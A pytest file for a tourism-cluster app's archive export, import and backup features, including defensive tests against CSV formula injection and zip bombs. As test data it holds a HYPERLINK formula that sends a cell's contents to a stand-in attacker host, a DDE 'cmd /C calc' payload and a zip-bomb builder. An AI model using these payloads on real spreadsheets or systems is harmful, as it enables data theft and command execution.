import csv
import hashlib
import io
import json
import uuid
import zipfile
from contextlib import contextmanager

import pytest
from sqlalchemy import create_engine, text

from klynge import operations as ops
from klynge.archive import DICTIONARY, MAX_MEMBERS, MAX_UNPACKED_BYTES, check_archive, export_archive, import_archive
from klynge.cells import FORMULA_STARTS
from klynge.errors import AccessDenied, DataError, KeyRejected, NotEmpty
from klynge.model import Cluster, Money, Note, Offer, Organisation, Package, PackageComponent, Person, SdgEntry
from klynge.settings import load_settings
from klynge.store import Identity, bulk, open_store

from .conftest import SECRET

SYSTEM = Identity.system()
CSVS = ["canvas_notes.csv", "decisions.csv", "maturity_scores.csv", "offers.csv", "organisations.csv",
        "package_settings.csv", "packages.csv", "people.csv", "sdg_entries.csv"]


@contextmanager
def fresh_store(db_url, tmp_path, kind="same"):
    """Another empty database: of the same kind as ``db_url``, or a SQLite file."""
    if kind == "sqlite" or db_url.startswith("sqlite"):
        with open_store(f"sqlite:///{tmp_path / f'fresh-{uuid.uuid4().hex[:6]}.db'}") as store:
            yield store
        return
    name = f"t_{uuid.uuid4().hex[:12]}"
    admin = create_engine(db_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as c:
        c.execute(text(f"CREATE DATABASE {name}"))
    try:
        with open_store(db_url.rsplit("/", 1)[0] + f"/{name}") as store:
            yield store
    finally:
        with admin.connect() as c:
            c.execute(text(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
        admin.dispose()


def offer(org, **kw):
    data = dict(organisation_id=org, title="Kajakktur, «Frøya»", kind="activity", municipality="5014",
                months=[9, 10], capacity_per_day=12, price=Money(amount="790.50", currency="NOK"))
    return Offer(**{**data, **kw})


@pytest.fixture
def populated(store, cluster, system):
    """The cluster with canvases in several revisions, an SDG assessment, a package and edits with history."""
    who, orgs = cluster["who"], cluster["orgs"]
    kari, fjell, gard = who["fjell"], orgs["fjell"], orgs["gard"]
    bmc = "business_model"
    r1 = store.save_canvas(kari, fjell, bmc, [Note(id="a", block="key_partners", text="Turistkontoret")], None)
    r2 = store.save_canvas(kari, fjell, bmc, [
        Note(id="a", block="key_partners", text="Turistkontoret i Oppdal"),
        Note(id="b", block="customer_segments", text='Skiløpere, "topptur"\nog familier', visibility="private",
             sdg_targets=["8.9", "12.b"], months=[1, 2, 3])], r1.number)
    store.save_canvas(kari, fjell, bmc, [
        Note(id="b", block="customer_segments", text="Skiløpere", order=1),
        Note(id="c", block="channels", text="Visit Trøndelag")], r2.number)
    store.save_canvas(who["gard"], gard, "value_proposition", [Note(id="x", block="gains", text="Lokal mat")], None)
    s1 = store.save_sdg(kari, fjell, [SdgEntry(target="12.b", relevance=2, impact=1)], None)
    store.save_sdg(kari, fjell, [SdgEntry(target="12.b", relevance=2, impact=1),
                                 SdgEntry(target="8.9", relevance=3, impact=2, evidence="Helårsarbeid")], s1.number)
    kayak = store.add_offer(kari, offer(fjell))
    (live,) = store.offers(kari, fjell)
    store.update_offer(kari, live.value.model_copy(update={"capacity_per_day": 20}), live.version)
    meal = store.add_offer(who["gard"], offer(gard, title="Gardsmiddag", kind="meal", municipality="5014"))
    gone = store.add_offer(who["gard"], offer(gard, title="Gammel tur"))
    store.remove_offer(who["gard"], gone, 1)
    current = store.organisation(who["gard"], gard)
    store.update_organisation(who["gard"], current.value.model_copy(update={"needs": "Overnatting"}),
                              current.version)
    store.save_package(kari, fjell, Package(title="Høst på Frøya", months=[9, 10], status="ready", components=[
        PackageComponent(offer_id=kayak, organisation_id=fjell),
        PackageComponent(offer_id=meal, organisation_id=gard, day=2)]), None, name="host")
    store.erase_person(system, who["researcher"].person_id)
    return cluster


def members(path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {name: z.read(name) for name in z.namelist()}


def rewrite(source, target, **changes):
    """Copy an archive, replacing some members' bytes (a tampered archive)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            new.writestr(info, changes.get(info.filename.replace(".", "_"), old.read(info)))
    return target


@pytest.mark.parametrize("target", ["same", "sqlite"])
def test_export_import_export_gives_identical_bytes(store, populated, system, db_url, tmp_path, target):
    first = export_archive(store, tmp_path / "first.zip")
    with fresh_store(db_url, tmp_path, target) as other:
        result = import_archive(other, first)
        assert result.backup is None and result.counts["revisions"] == 7 and result.counts["row_history"] == 3
        second = export_archive(other, tmp_path / "second.zip")
        assert second.read_bytes() == first.read_bytes()
        # Every revision came along, keys did not, and new rows get new ids.
        fjell = populated["orgs"]["fjell"]
        assert [h.number for h in other.history(system, "canvas", fjell, "business_model")] == [1, 2, 3]
        with pytest.raises(KeyRejected):
            other.check_key("whatever.secret", SECRET)
        new = other.add_organisation(system, Organisation(
            name="Ny", country="NO", orgnr="912345602", municipality="5001"), populated["id"])
        assert new == max(populated["orgs"].values()) + 1


def test_archive_is_deterministic_and_documented(store, populated, tmp_path):
    path = export_archive(store, tmp_path / "klynge.zip")
    with zipfile.ZipFile(path) as z:
        infos = z.infolist()
    assert [i.filename for i in infos] == sorted(i.filename for i in infos)
    assert {i.date_time for i in infos} == {(1980, 1, 1, 0, 0, 0)}
    assert {i.external_attr >> 16 for i in infos} == {0o100644}
    files = members(path)
    manifest = json.loads(files["manifest.json"])
    assert manifest["format_version"] == 1 and manifest["schema_version"] == store.schema_version()
    assert set(manifest["files"]) == set(files) - {"manifest.json"}
    assert "keys" not in json.loads(files["cluster.json"]) and "meta" not in manifest["counts"]
    assert all(b"\r" not in data for data in files.values())
    assert check_archive(path) == manifest


def test_csv_files_have_the_documented_columns(store, populated, tmp_path):
    files = members(export_archive(store, tmp_path / "klynge.zip"))
    tables = {}
    for name in CSVS:
        rows = list(csv.reader(io.StringIO(files[name].decode("utf-8"))))
        assert rows[0] == [c[0] for c in DICTIONARY[name.removesuffix(".csv")][1]]
        tables[name] = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert len(tables["organisations.csv"]) == 3 and len(tables["people.csv"]) == 5
    assert "digest" not in tables["people.csv"][0] and "key" not in tables["people.csv"][0]
    notes = [(r["template"], r["note_id"], r["revision"]) for r in tables["canvas_notes.csv"]]
    assert sorted(notes) == [("business_model", "b", "3"), ("business_model", "c", "3"),
                             ("value_proposition", "x", "1")]
    assert [(r["target"], r["revision"]) for r in tables["sdg_entries.csv"]] == [("8.9", "2"), ("12.b", "2")]
    (package,) = tables["packages.csv"]
    assert package["title"] == "Høst på Frøya" and package["months"] == "9;10" and package["status"] == "ready"
    offers = {r["title"]: r for r in tables["offers.csv"]}
    assert offers["Kajakktur, «Frøya»"]["capacity_per_day"] == "20" and offers["Gammel tur"]["removed_at"]
    assert offers["Gardsmiddag"]["price_amount"] == "790.50" and offers["Gardsmiddag"]["vat_included"] == "true"
    gard = next(r for r in tables["organisations.csv"] if r["name"] == "Gardsbutikken")
    assert gard["subclusters"] == "food" and gard["version"] == "2"
    erased = next(r for r in tables["people.csv"] if r["role"] == "researcher")
    assert erased["name"] == "" and erased["email"] == "" and erased["erased_at"].endswith("+00:00")


def test_data_dictionary_lists_every_column_of_every_csv(store, populated, tmp_path):
    files = members(export_archive(store, tmp_path / "klynge.zip"))
    dictionary = list(csv.DictReader(io.StringIO(files["data_dictionary.csv"].decode("utf-8"))))
    assert list(dictionary[0]) == ["table", "column", "type", "meaning", "allowed_values"]
    documented = {(r["table"], r["column"]) for r in dictionary if r["meaning"]}
    markdown = files["DATA_DICTIONARY.md"].decode("utf-8")
    for name in CSVS:
        header = next(csv.reader(io.StringIO(files[name].decode("utf-8"))))
        table = name.removesuffix(".csv")
        assert {(table, c) for c in header} <= documented
        section = markdown.split(f"## {name}")[1].split("\n## ")[0]
        assert all(f"| {c} |" in section for c in header)


def test_a_tampered_or_truncated_archive_fails_naming_the_file(store, populated, system, db_url, tmp_path):
    good = export_archive(store, tmp_path / "klynge.zip")
    data = bytearray(members(good)["cluster.json"])
    data[100] = ord("X") if data[100] != ord("X") else ord("Y")
    tampered = rewrite(good, tmp_path / "tampered.zip", cluster_json=bytes(data))
    truncated = tmp_path / "truncated.zip"
    truncated.write_bytes(good.read_bytes()[:-200])
    with fresh_store(db_url, tmp_path) as other:
        with pytest.raises(DataError, match=r"tampered\.zip: cluster\.json does not match its checksum"):
            import_archive(other, tampered)
        with pytest.raises(DataError, match=r"truncated\.zip"):
            import_archive(other, truncated)
        assert other.is_empty(system)


def test_another_schema_version_says_to_upgrade(store, populated, tmp_path):
    good = export_archive(store, tmp_path / "klynge.zip")
    manifest = json.loads(members(good)["manifest.json"])
    manifest["schema_version"] = "9999"
    newer = rewrite(good, tmp_path / "newer.zip", manifest_json=json.dumps(manifest).encode())
    with pytest.raises(DataError, match="upgrade Klynge"):
        import_archive(store, newer, replace=True, backup_folder=tmp_path)


def test_a_full_database_is_refused_without_replace_and_backed_up_with_it(store, populated, system, tmp_path):
    path = export_archive(store, tmp_path / "klynge.zip")
    before = bulk.dump(store, system)
    with pytest.raises(NotEmpty, match="--replace"):
        import_archive(store, path)
    assert bulk.dump(store, system) == before
    result = import_archive(store, path, replace=True, backup_folder=tmp_path / "backups")
    assert result.backup is not None and result.backup.parent == tmp_path / "backups" and result.backup.exists()
    assert bulk.dump(store, system) == before
    assert export_archive(store, tmp_path / "again.zip").read_bytes() == path.read_bytes()


def test_a_load_that_breaks_a_rule_loads_nothing(store, populated, system, db_url, tmp_path):
    tables = bulk.dump(store, system)
    tables["revisions"][-1]["document_id"] = 999  # no such document
    with fresh_store(db_url, tmp_path) as other:
        with pytest.raises(DataError, match="nothing was loaded"):
            bulk.load(other, system, tables)
        assert other.is_empty(system) and bulk.dump(other, system)["clusters"] == []
    with pytest.raises(DataError, match="unknown tables keys"):
        bulk.load(store, system, {"keys": []})


def test_only_the_system_dumps(store, populated):
    with pytest.raises(AccessDenied):
        bulk.dump(store, populated["who"]["facilitator"])


# -- cells a spreadsheet would run, and archives that unpack to too much --------------------
LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'


@pytest.fixture
def formulas(store, cluster, system):
    """Text that a spreadsheet would run as a formula, in every text column a person fills in."""
    who, orgs = cluster["who"], cluster["orgs"]
    kari, fjell, gard = who["fjell"], orgs["fjell"], orgs["gard"]
    current = store.organisation(kari, fjell)
    store.update_organisation(kari, current.value.model_copy(update={
        "name": LINK, "needs": "+47 000 00 000", "description": "-1+1"}), current.version)
    store.add_person(system, Person(name="@SUM(A1:A9)", email="sum@fjell.example", organisation_id=fjell),
                     cluster["id"])
    kayak = store.add_offer(kari, offer(fjell, title="=1+1", description="@cmd"))
    meal = store.add_offer(who["gard"], offer(gard, title="Gardsmiddag"))
    store.save_canvas(kari, fjell, "business_model", [
        Note(id="a", block="channels", text=LINK), Note(id="b", block="channels", text="-1"),
        Note(id="c", block="channels", text="+1"), Note(id="d", block="channels", text="@SUM(1+1)")], None)
    store.save_sdg(kari, fjell, [SdgEntry(target="8.9", relevance=2, impact=-2, evidence="=2+5",
                                          action="-cmd|' /C calc'!A0")], None)
    store.save_package(kari, fjell, Package(title="@Pakke", description="=A1", target_segment="+familier",
                                            components=[PackageComponent(offer_id=kayak, organisation_id=fjell),
                                                        PackageComponent(offer_id=meal, organisation_id=gard)]),
                       None, name="pakke")
    return cluster


def csv_cells(files) -> dict[str, list[dict]]:
    return {name: list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
            for name, data in files.items() if name.endswith(".csv")}


def assert_no_formula(tables) -> None:
    for name, rows in tables.items():
        for row in rows:
            for column, cell in row.items():
                if cell.startswith(FORMULA_STARTS):  # only a number Klynge wrote itself may start with -
                    assert column == "impact" and int(cell) < 0, (name, column, cell)


def test_formula_cells_are_written_as_text_in_every_csv(store, formulas, system, tmp_path):
    files = members(export_archive(store, tmp_path / "klynge.zip"))
    tables = csv_cells(files)
    assert set(tables) == {*CSVS, "data_dictionary.csv"}
    assert_no_formula(tables)
    fjell = next(r for r in tables["organisations.csv"] if r["id"] == str(formulas["orgs"]["fjell"]))
    assert (fjell["name"], fjell["needs"], fjell["description"]) == ("'" + LINK, "'+47 000 00 000", "'-1+1")
    assert "'@SUM(A1:A9)" in {r["name"] for r in tables["people.csv"]}
    kayak = next(r for r in tables["offers.csv"] if r["title"].endswith("1+1"))
    assert (kayak["title"], kayak["description"]) == ("'=1+1", "'@cmd")
    notes = {r["note_id"]: r["text"] for r in tables["canvas_notes.csv"]}
    assert notes == {"a": "'" + LINK, "b": "'-1", "c": "'+1", "d": "'@SUM(1+1)"}
    (entry,) = tables["sdg_entries.csv"]
    assert (entry["impact"], entry["evidence"], entry["action"]) == ("-2", "'=2+5", "'-cmd|' /C calc'!A0")
    (package,) = tables["packages.csv"]
    assert (package["title"], package["description"], package["target_segment"]) == ("'@Pakke", "'=A1",
                                                                                      "'+familier")
    # cluster.json keeps every text as typed: the quote is only in what a spreadsheet opens.
    dump = json.loads(files["cluster.json"])
    assert LINK in {o["name"] for o in dump["organisations"]} and "'" + LINK not in files["cluster.json"].decode()
    assert bulk.dump(store, system)["organisations"] == dump["organisations"]


def test_formula_text_survives_the_round_trip_as_typed(store, formulas, system, db_url, tmp_path):
    first = export_archive(store, tmp_path / "first.zip")
    with fresh_store(db_url, tmp_path) as other:
        import_archive(other, first)
        assert bulk.dump(other, system) == bulk.dump(store, system)
        assert export_archive(other, tmp_path / "second.zip").read_bytes() == first.read_bytes()


def test_text_starting_with_a_tab_or_carriage_return_is_written_as_text(store, populated, system, db_url,
                                                                          tmp_path):
    # The model strips leading white space, but a loaded archive (from another tool, or an older
    # Klynge) can hold such text; the CSV writer must not trust the model to have removed it.
    tables = bulk.dump(store, system)
    tables["organisations"][0]["name"] = "\t=1+1"
    tables["people"][0]["name"] = "\r@SUM(1)"
    tables["people"][1]["name"] = "Kari\rNordmann,=1+1"  # a lone CR would start a new row
    with fresh_store(db_url, tmp_path) as other:
        bulk.load(other, system, tables)
        files = members(export_archive(other, tmp_path / "tabs.zip"))
    cells = csv_cells(files)
    assert_no_formula(cells)
    assert all(b"\r" not in data for name, data in files.items() if name != "cluster.json")
    assert "'\t=1+1" in {r["name"] for r in cells["organisations.csv"]}
    assert len(cells["people.csv"]) == len(tables["people"])
    assert {"'\n@SUM(1)", "Kari\nNordmann,=1+1"} <= {r["name"] for r in cells["people.csv"]}


def bomb(path, size, files=None):
    """A zip whose one member is ``size`` bytes of zeros (it packs to about a thousandth)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("cluster.json", "w", force_zip64=True) as out:
            chunk = b"0" * (1 << 20)
            for start in range(0, size, len(chunk)):
                out.write(chunk[:size - start])
        for i in range(files or 0):
            z.writestr(f"f{i}.csv", b"")
    return path


def test_an_archive_that_unpacks_to_too_much_is_refused_before_unpacking(store, populated, system, db_url,
                                                                          tmp_path):
    limit = 4 << 20
    path = bomb(tmp_path / "bomb.zip", 5 << 20)
    assert path.stat().st_size < 64 << 10
    with fresh_store(db_url, tmp_path) as other:
        # Without the limit the missing manifest.json would be reported: the size is checked first.
        with pytest.raises(DataError, match=r"bomb\.zip would unpack to 5\.0 MB, over the import limit of 4\.0 MB"
                                            r"\. Nothing was unpacked"):
            import_archive(other, path, max_bytes=limit)
        with pytest.raises(DataError, match="manifest.json is missing"):
            import_archive(other, path)
        assert other.is_empty(Identity.system())
    with pytest.raises(DataError, match="over the import limit of 4.0 MB"):
        check_archive(path, max_bytes=limit)
    # A real export is far below the default limits and still imports with the limit set tight.
    good = export_archive(store, tmp_path / "good.zip")
    with zipfile.ZipFile(good) as z:
        unpacked = sum(i.file_size for i in z.infolist())
    assert unpacked < MAX_UNPACKED_BYTES / 1000 and len(members(good)) < MAX_MEMBERS
    assert check_archive(good, max_bytes=unpacked)["format"] == "klynge-archive"


def test_an_archive_of_too_many_files_is_refused_before_unpacking(tmp_path):
    path = bomb(tmp_path / "many.zip", 10, files=MAX_MEMBERS)
    with pytest.raises(DataError, match=rf"many\.zip holds {MAX_MEMBERS + 1} files; an import takes at most "
                                        rf"{MAX_MEMBERS}\. Nothing was unpacked"):
        check_archive(path)


# -- backups: the archive taken before a replace brings the database back ------------------
def other_cluster_archive(db_url, tmp_path):
    """An archive of another, smaller cluster: what a replace loads over the populated one."""
    with fresh_store(db_url, tmp_path) as other:
        cid = other.create_cluster(SYSTEM, Cluster(name="Annen klynge"))
        other.add_organisation(SYSTEM, Organisation(name="Ny", country="NO", orgnr="912345602",
                                                    municipality="5001"), cid)
        return export_archive(other, tmp_path / "other.zip")


def counts(store):
    return {name: len(rows) for name, rows in bulk.dump(store, SYSTEM).items()}


def test_an_import_replace_is_undone_by_restoring_its_backup(store, populated, db_url, tmp_path):
    settings = load_settings().with_db(db_url)
    key = store.issue_key(SYSTEM, populated["who"]["fjell"].person_id, SECRET)
    before, before_counts = bulk.dump(store, SYSTEM), counts(store)
    original = export_archive(store, tmp_path / "original.zip")
    replaced = ops.import_cluster(settings, other_cluster_archive(db_url, tmp_path), replace=True)
    assert replaced.backup.parent == ops.backup_folder(settings) and replaced.backup.suffix == ".zip"
    assert check_archive(replaced.backup)["counts"] == before_counts
    assert counts(store)["organisations"] == 1 and bulk.dump(store, SYSTEM) != before

    restored = ops.restore(settings, str(replaced.backup))
    assert restored.counts == before_counts
    assert bulk.dump(store, SYSTEM) == before
    assert export_archive(store, tmp_path / "restored.zip").read_bytes() == original.read_bytes()
    # What the restore replaced (the other cluster) was backed up in turn.
    assert restored.backup != replaced.backup and check_archive(restored.backup)["counts"]["organisations"] == 1
    # Sign-in keys are not in an archive: everyone needs a new one.
    with pytest.raises(KeyRejected, match="unknown"):
        store.check_key(key, SECRET)


def test_a_demo_replace_is_undone_by_restoring_its_backup(store, populated, db_url, tmp_path):
    # ``klynge demo --replace`` empties the database through Store.clear, which takes this backup.
    before = bulk.dump(store, SYSTEM)
    backup = store.clear(SYSTEM, replace=True, backup_folder=tmp_path / "backups")
    assert store.is_empty(SYSTEM) and backup.parent == tmp_path / "backups"
    import_archive(store, backup)
    assert bulk.dump(store, SYSTEM) == before


def test_a_damaged_backup_is_refused_and_nothing_changes(store, populated, db_url, tmp_path):
    settings = load_settings().with_db(db_url)
    good = ops.backup(settings)
    assert good.parent == ops.backup_folder(settings) and good.name.startswith("klynge-backup-")
    damaged = tmp_path / "damaged.zip"
    damaged.write_bytes(good.read_bytes()[:-300])
    before, backups = bulk.dump(store, SYSTEM), sorted(ops.backup_folder(settings).iterdir())
    with pytest.raises(DataError, match=r"damaged\.zip"):
        ops.restore(settings, str(damaged))
    assert bulk.dump(store, SYSTEM) == before
    assert sorted(ops.backup_folder(settings).iterdir()) == backups  # no backup taken for a refused restore


def test_only_the_system_backs_up(store, populated, tmp_path):
    with pytest.raises(AccessDenied):
        store.backup(populated["who"]["facilitator"], tmp_path / "backups")
    assert not (tmp_path / "backups").exists()


# -- offers' units ------------------------------------------------------------------------
def test_offer_units_survive_the_round_trip_and_are_in_the_csv(store, cluster, system, db_url, tmp_path):
    kari, fjell = cluster["who"]["fjell"], cluster["orgs"]["fjell"]
    store.add_offer(kari, offer(fjell, title="Hytte for fire, ei uke", kind="accommodation", price_unit="unit",
                                price_guests=4, price_nights=7, capacity_per_day=4))
    store.add_offer(kari, offer(fjell, title="Båttur for gruppe", kind="transport", price_unit="group",
                                price_guests=8))
    path = export_archive(store, tmp_path / "first.zip")
    rows = {r["title"]: r for r in csv_cells(members(path))["offers.csv"]}
    cabin, boat = rows["Hytte for fire, ei uke"], rows["Båttur for gruppe"]
    assert (cabin["price_unit"], cabin["price_guests"], cabin["price_nights"], cabin["capacity_unit"]) == \
        ("unit", "4", "7", "beds")
    assert (boat["price_unit"], boat["price_guests"], boat["price_nights"], boat["capacity_unit"]) == \
        ("group", "8", "1", "seats")
    with fresh_store(db_url, tmp_path) as other:
        import_archive(other, path)
        got = {o.value.title: o.value for o in other.offers(system, fjell)}
        assert got["Hytte for fire, ei uke"] == store.offers(system, fjell)[0].value
        assert (got["Båttur for gruppe"].price_unit, got["Båttur for gruppe"].price_guests) == ("group", 8)
        assert export_archive(other, tmp_path / "second.zip").read_bytes() == path.read_bytes()


def older_archive(source, target, schema="0003"):
    """An archive as Klynge wrote it before offers had units: no unit columns, the older schema."""
    files = members(source)
    tables = json.loads(files["cluster.json"])
    units = ("price_unit", "price_guests", "price_nights", "capacity_unit")
    for row in tables["offers"]:
        for column in units:
            del row[column]
    for row in tables["row_history"]:
        if row["entity"] == "offer":
            for column in units:
                row["body"].pop(column, None)
    files["cluster.json"] = json.dumps(tables).encode()
    manifest = json.loads(files.pop("manifest.json"))
    manifest["schema_version"] = schema
    manifest["files"] = {n: {"bytes": len(d), "sha256": hashlib.sha256(d).hexdigest()} for n, d in files.items()}
    files["manifest.json"] = json.dumps(manifest).encode()
    with zipfile.ZipFile(target, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return target


@pytest.mark.parametrize("schema", ["0001", "0003"])
def test_an_archive_from_before_offer_units_gets_the_units_of_each_kind(store, populated, system, db_url,
                                                                         tmp_path, schema):
    kari, fjell = populated["who"]["fjell"], populated["orgs"]["fjell"]
    store.add_offer(kari, offer(fjell, title="Rom", kind="accommodation"))
    store.add_offer(kari, offer(fjell, title="Sal", kind="venue"))
    old = older_archive(export_archive(store, tmp_path / "now.zip"), tmp_path / "old.zip", schema)
    with fresh_store(db_url, tmp_path) as other:
        result = import_archive(other, old)
        assert result.schema_version == other.schema_version()
        units = {o.value.title: (o.value.price_unit, o.value.capacity_unit, o.value.price_guests,
                                 o.value.price_nights) for o in other.offers(system, fjell)}
        assert units["Rom"] == ("night", "beds", 1, 1) and units["Sal"] == ("unit", "guests", 1, 1)
        assert units["Kajakktur, «Frøya»"] == ("person", "guests", 1, 1)
        gard = other.offers(system, populated["orgs"]["gard"])
        assert {(o.value.kind, o.value.capacity_unit) for o in gard} == {("meal", "seats")}
        history = bulk.dump(other, system)["row_history"]
        earlier = [r["body"] for r in history if r["entity"] == "offer"]
        assert earlier and all((b["capacity_unit"], b["price_unit"]) == ("guests", "person") for b in earlier)


def test_an_archive_of_an_unknown_older_schema_is_refused(store, populated, tmp_path):
    old = older_archive(export_archive(store, tmp_path / "now.zip"), tmp_path / "old.zip", "0000")
    with pytest.raises(DataError, match="schema 0000.*klynge db upgrade"):
        import_archive(store, old, replace=True, backup_folder=tmp_path)
